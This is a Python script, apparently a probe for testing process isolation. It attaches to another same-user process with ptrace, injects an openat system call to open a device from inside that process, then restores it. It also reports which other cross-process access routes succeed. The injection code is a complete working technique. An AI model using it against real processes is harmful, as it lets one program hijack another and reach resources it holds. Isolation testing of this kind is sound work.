"""A program of the standard library alone: attach to another process of one's user, and open a device from there.

attacker.py MARK DEVICE: waits for a process with MARK in its command line, and says as JSON what each way to it gave,
as errno (0: it went well): `seize`, `mem` (its memory by /proc), `vm` (process_vm_readv), `fd` (pidfd_getfd), `kill`,
and `open`: the device, by a system call that the other process was made to do. x86-64 only.
"""

import ctypes
import json
import os
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
POKE, CONT, GETREGS, SETREGS, ATTACH, DETACH, SEIZE = 4, 7, 12, 13, 16, 17, 0x4206
R8, R10, RAX, RDX, RSI, RDI, ORIG, RIP, RSP = 9, 7, 10, 12, 13, 14, 15, 16, 19


def found(mark: str) -> int:
    me = os.getpid()
    until = time.monotonic() + 30
    while time.monotonic() < until:
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) in (me, os.getppid()):
                continue
            try:
                with open(f"/proc/{name}/cmdline", "rb") as file:
                    words = file.read()
                with open(f"/proc/{name}/status") as file:
                    uids = next(line for line in file if line.startswith("Uid")).split()[1:]
            except (OSError, StopIteration):
                continue
            if mark.encode() in words and set(uids) == {str(os.getuid())}:
                return int(name)
        time.sleep(0.005)
    sys.exit("no process " + mark)


def error(done: int) -> int:
    return ctypes.get_errno() if done < 0 else 0


def trace(request: int, pid: int, address: int = 0, data: int = 0) -> None:
    done = libc.ptrace(request, pid, address, data)
    if done < 0:
        raise OSError(ctypes.get_errno(), "ptrace")


def opened_from(pid: int, device: str) -> "int | None":
    """By the other process, which then goes on as before."""
    try:
        trace(ATTACH, pid)
    except OSError as refused:
        return refused.errno
    os.waitpid(pid, 0)
    saved = (ctypes.c_ulong * 27)()
    trace(GETREGS, pid, 0, ctypes.addressof(saved))
    used = (ctypes.c_ulong * 27)(*saved)
    path = device.encode() + b"\0" * (16 - len(device) % 8)
    at = (saved[RSP] - 4096) & ~15
    for place in range(0, len(path) // 8 * 8, 8):
        trace(POKE, pid, at + place, int.from_bytes(path[place : place + 8], "little"))
    with open(f"/proc/{pid}/mem", "rb") as memory:
        memory.seek(saved[RIP])
        code = int.from_bytes(memory.read(8), "little")
    trace(POKE, pid, saved[RIP], int.from_bytes(b"\x0f\x05\xcc", "little"))  # syscall; int3
    used[RAX], used[RDI], used[RSI], used[RDX] = (
        257,
        2**64 - 100,
        at,
        os.O_RDWR,
    )  # openat(AT_FDCWD, path, O_RDWR)
    used[ORIG] = 2**64 - 1
    trace(SETREGS, pid, 0, ctypes.addressof(used))
    trace(CONT, pid)
    os.waitpid(pid, 0)
    trace(GETREGS, pid, 0, ctypes.addressof(used))
    trace(POKE, pid, saved[RIP], code)
    trace(SETREGS, pid, 0, ctypes.addressof(saved))
    trace(DETACH, pid)
    result = ctypes.c_long(used[RAX]).value
    return -result if result < 0 else 0


def main() -> None:
    mark, device = sys.argv[1:]
    pid = found(mark)
    said: dict[str, int | None] = {"open": opened_from(pid, device)}
    try:
        os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))
        said["mem"] = 0
    except OSError as refused:
        said["mem"] = refused.errno
    said["seize"] = error(libc.ptrace(SEIZE, pid, 0, 0))
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    remote = (ctypes.c_void_p * 2)(4096, 8)
    said["vm"] = error(libc.syscall(310, pid, local, 1, remote, 1, 0))
    said["fd"] = error(libc.syscall(438, libc.syscall(434, pid, 0), 0, 0))
    said["kill"] = error(libc.kill(pid, 0))
    print(json.dumps(said))


main()
